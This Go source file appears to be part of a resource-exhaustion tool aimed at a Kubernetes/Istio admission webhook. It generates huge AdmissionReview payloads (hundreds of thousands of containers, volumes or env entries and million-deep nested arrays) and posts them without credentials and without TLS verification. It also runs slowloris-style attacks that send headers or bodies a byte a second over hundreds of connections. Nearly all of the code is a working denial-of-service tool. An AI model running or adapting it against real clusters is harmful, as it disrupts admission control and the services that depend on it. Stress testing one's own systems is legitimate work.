package main

import (
	"bytes"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"time"
)

// bodies are reviews that cost more than their size, by kind.
var bodies = map[string]func() []byte{
	"containers": func() []byte { return podReview(`"containers":[` + list(`{"name":"c","image":"i"}`, 200_000) + `]`) },
	"init": func() []byte {
		return podReview(`"initContainers":[` + list(`{"name":"c"}`, 300_000) + `],"containers":[{"name":"a"}]`)
	},
	"volumes": func() []byte {
		return podReview(`"volumes":[` + list(`{"name":"v"}`, 400_000) + `],"containers":[{"name":"a"}]`)
	},
	"env": func() []byte {
		return podReview(`"containers":[{"name":"a","env":[` + list(`{"name":"E"}`, 400_000) + `]}]`)
	},
	"nested": func() []byte {
		return podReview(`"x":` + strings.Repeat("[", 1_000_000) + strings.Repeat("]", 1_000_000))
	},
	"empty": func() []byte { return podReview(`"containers":[` + list(`{}`, 2_000_000) + `]`) },
}

func list(item string, n int) string { return strings.TrimSuffix(strings.Repeat(item+",", n), ",") }

func podReview(spec string) []byte {
	return []byte(`{"apiVersion":"admission.k8s.io/v1","kind":"AdmissionReview","request":{"uid":"1","kind":{"group":"","version":"v1","kind":"Pod"},` +
		`"resource":{"group":"","version":"v1","resource":"pods"},"namespace":"hostile","operation":"CREATE","userInfo":{},` +
		`"object":{"apiVersion":"v1","kind":"Pod","metadata":{"name":"p","labels":{"sidecar.istio.io/inject":"true"}},"spec":{` + spec + `}}}}`)
}

// paths are the webhook's.
var paths = []string{"/inject", "/warn", "/validate", "/validate-configuration"}

// reviews calls the webhook's handlers without credentials: with bodies of a kind, of
// "all" kinds, or "slow", a byte a second.
func reviews(args []string) error {
	kind, targets := args[0], args[1:]
	if kind == "slow" || kind == "headers" {
		return slow(kind, targets)
	}
	var kinds [][]byte
	for name, f := range bodies {
		if kind == "all" || kind == name {
			kinds = append(kinds, f())
		}
	}
	if len(kinds) == 0 {
		return fmt.Errorf("no kind %q of reviews", kind)
	}
	client := &http.Client{Timeout: 30 * time.Second, Transport: &http.Transport{
		TLSClientConfig: &tls.Config{InsecureSkipVerify: true}, MaxIdleConnsPerHost: 20,
	}}
	count := counting("reviews "+kind, "answered", "failed")
	workers(12, func(i int) {
		url := "https://" + targets[i%len(targets)] + paths[i/2%len(paths)]
		if i < 6 {
			url = "https://" + targets[i%len(targets)] + paths[0]
		}
		resp, err := client.Post(url, "application/json", bytes.NewReader(kinds[i%len(kinds)]))
		if err != nil {
			count.failed("failed", err)
			time.Sleep(10 * time.Millisecond)
			return
		}
		if text, _ := io.ReadAll(io.LimitReader(resp.Body, 300)); resp.StatusCode != http.StatusOK {
			count.failed("answered", fmt.Errorf("status %d: %.200s", resp.StatusCode, text))
		} else {
			count.add("answered")
		}
		_ = resp.Body.Close()
	})
	return nil
}

// slow sends requests a byte a second: their bodies, or already their headers.
func slow(kind string, targets []string) error {
	count := counting("reviews "+kind, "opened", "ended", "failed")
	connections(400, targets, count, func(i int, c net.Conn) {
		t := tls.Client(c, &tls.Config{InsecureSkipVerify: true})
		head := "POST " + paths[i/len(targets)%len(paths)] + " HTTP/1.1\r\nHost: outrider\r\n"
		if kind == "slow" {
			head += "Content-Type: application/json\r\nContent-Length: 100000\r\n\r\n"
		}
		if _, err := io.WriteString(t, head); err != nil {
			count.failed("failed", err)
			time.Sleep(100 * time.Millisecond)
			return
		}
		count.add("opened")
		for range 120 {
			if _, err := io.WriteString(t, "x"); err != nil {
				count.failed("ended", err)
				return
			}
			time.Sleep(time.Second)
		}
		count.add("ended")
	})
	return nil
}
